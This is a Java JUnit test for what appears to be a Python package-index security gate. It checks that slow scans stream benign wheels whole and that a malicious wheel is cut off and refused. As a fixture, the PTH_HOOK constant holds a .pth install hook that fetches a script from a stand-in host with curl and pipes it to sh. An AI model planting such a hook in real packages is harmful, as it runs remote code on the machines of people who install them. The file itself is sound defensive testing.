package dev.kingsnake.gate;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.kingsnake.Confidence;
import dev.kingsnake.Scanner;
import dev.kingsnake.Severity;
import dev.kingsnake.index.IndexClient;
import dev.kingsnake.spi.FindingSink;
import dev.kingsnake.spi.Rule;
import dev.kingsnake.spi.RuleContext;
import dev.kingsnake.spi.RuleInfo;
import dev.kingsnake.spi.SourceFile;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

/**
 * A scan that outlasts the client's read timeout: the gate streams the file while it scans, holding back the end
 * until the verdict. pip runs with a 3 s timeout against scans made to take 8 s.
 */
class GateStreamingTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String PTH_HOOK = "import os, subprocess; subprocess.Popen([\"sh\", \"-c\", "
            + "\"curl -s http://example.invalid/b.sh | sh\"]) if not os.environ.get(\"DEMO_OFF\") else None\n";

    /** Takes 8 s over any package holding a file named {@code slow_marker.py}; reports nothing. */
    static final class SlowRule implements Rule {
        @Override
        public RuleInfo info() {
            return new RuleInfo("KS-TEST-SLOW", "Test-only: a slow scan", Severity.INFO, Confidence.LOW, Set.of(), "", "");
        }

        @Override
        public void check(RuleContext ctx, FindingSink sink) {
            for (SourceFile f : ctx.files()) {
                if (f.path().endsWith("slow_marker.py")) {
                    try {
                        Thread.sleep(8000);
                    } catch (InterruptedException e) {
                        Thread.currentThread().interrupt();
                    }
                }
            }
        }
    }

    private static Path dir;
    private static Pip pip;
    private static TestIndex upstream;
    private static GateServer gate;
    private static Path auditFile;

    @BeforeAll
    static void start() throws Exception {
        dir = Files.createTempDirectory("kingsnake-gate-stream");
        Optional<Pip> found = Pip.find(dir);
        assumeTrue(found.isPresent(), "no pip on this machine (python3 -m pip): the gate's pip tests are skipped");
        pip = found.get();
        List<Rule> rules = new ArrayList<>(Scanner.loadRules().stream()
                .filter(r -> !r.info().id().startsWith("KS-TEST")).toList());
        rules.add(new SlowRule());
        upstream = new TestIndex().root("public", false, Duration.ZERO);
        auditFile = dir.resolve("audit.jsonl");
        gate = GateServer.start(new GateServer.Config("127.0.0.1", 0, upstream.simple("public"), Optional.empty(),
                GatePolicy.defaults(), "jdbc:sqlite:" + dir.resolve("v.db"), dir.resolve("cache"),
                Files.newBufferedWriter(auditFile), Scanner.builder().rules(rules).build(), "test-rules",
                new IndexClient.Settings(Duration.ofSeconds(2), Duration.ofSeconds(10), 1, Duration.ofMillis(50),
                        1L << 30), 2, Duration.ofSeconds(60), Duration.ofSeconds(5), Duration.ofSeconds(1)));
    }

    @AfterAll
    static void stop() throws Exception {
        if (gate != null) {
            gate.close();
        }
        if (upstream != null) {
            upstream.close();
        }
    }

    private static String index() {
        return "http://127.0.0.1:" + gate.port() + "/simple/";
    }

    private static List<JsonNode> audit(String filename) throws Exception {
        List<JsonNode> out = new ArrayList<>();
        for (String line : Files.readAllLines(auditFile)) {
            JsonNode n = JSON.readTree(line);
            if (n.path("file").asText().equals(filename)) {
                out.add(n);
            }
        }
        return out;
    }

    @Test
    void aBenignFileOutlastingTheClientTimeoutArrivesWhole() throws Exception {
        String name = TestIndex.wheelName("slow-good", "1.0");
        // more than the 64 KiB held back, so most of the file goes out before the verdict
        byte[] bytes = TestIndex.wheel("slow-good", "1.0", Map.of("slow_good/slow_marker.py", "X = 1\n",
                "slow_good/data.py", "DATA = '" + "0123456789abcdef".repeat(16 * 1024) + "'\n"));
        upstream.add("public", "slow-good", name, bytes, Duration.ofDays(30));
        Path out = Files.createDirectories(dir.resolve("good"));
        Pip.Run run = pip.run(index(), "download", "--no-deps", "--timeout", "3", "-d", out.toString(), "slow-good==1.0");
        assertEquals(0, run.exit(), run.output());
        assertArrayEquals(bytes, Files.readAllBytes(out.resolve(name)));
        JsonNode line = audit(name).get(0);
        assertEquals("served", line.path("action").asText());
        assertTrue(line.path("reason").asText().endsWith("(streamed while scanned)"), line.toString());
        assertTrue(line.path("millis").asLong() >= 8000, "the scan took its 8 s: " + line);
    }

    @Test
    void aMaliciousFileStreamedWhileScannedIsCutThenRefusedWithTheReason() throws Exception {
        String name = TestIndex.wheelName("slow-bad", "1.0");
        byte[] bytes = TestIndex.wheel("slow-bad", "1.0", Map.of("slow_bad/slow_marker.py", "X = 1\n",
                "slow_bad_init.pth", PTH_HOOK));
        upstream.add("public", "slow-bad", name, bytes, Duration.ofDays(30));
        Path out = Files.createDirectories(dir.resolve("bad"));
        Pip.Run cut = pip.run(index(), "download", "--no-deps", "--timeout", "3", "-d", out.toString(), "slow-bad==1.0");
        assertNotEquals(0, cut.exit(), cut.output());
        assertEquals(List.of(), Pip.files(out), "pip kept nothing");
        assertTrue(audit(name).get(0).path("reason").asText().contains("connection cut"), audit(name).toString());
        // pip (its vendored urllib3 does not enforce Content-Length) notices the cut by the page's #sha256
        assertTrue(cut.output().contains("Expected sha256 " + TestIndex.sha256(bytes)), cut.output());
        // from now on the file is known: left out of the page, and refused with the reason when asked for directly
        Pip.Run again = pip.run(index(), "download", "--no-deps", "--timeout", "3", "-d", out.toString(), "slow-bad==1.0");
        assertNotEquals(0, again.exit());
        assertTrue(again.output().contains("No matching distribution found for slow-bad==1.0"), again.output());
        assertEquals(List.of(), Pip.files(out));
        HttpResponse<String> direct = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
                URI.create("http://127.0.0.1:" + gate.port() + "/files/slow-bad/" + name)).build(),
                HttpResponse.BodyHandlers.ofString());
        assertEquals(403, direct.statusCode());
        assertTrue(direct.body().contains("KS-IMPORT-PTH-CODE at slow_bad_init.pth:1"), direct.body());
    }
}
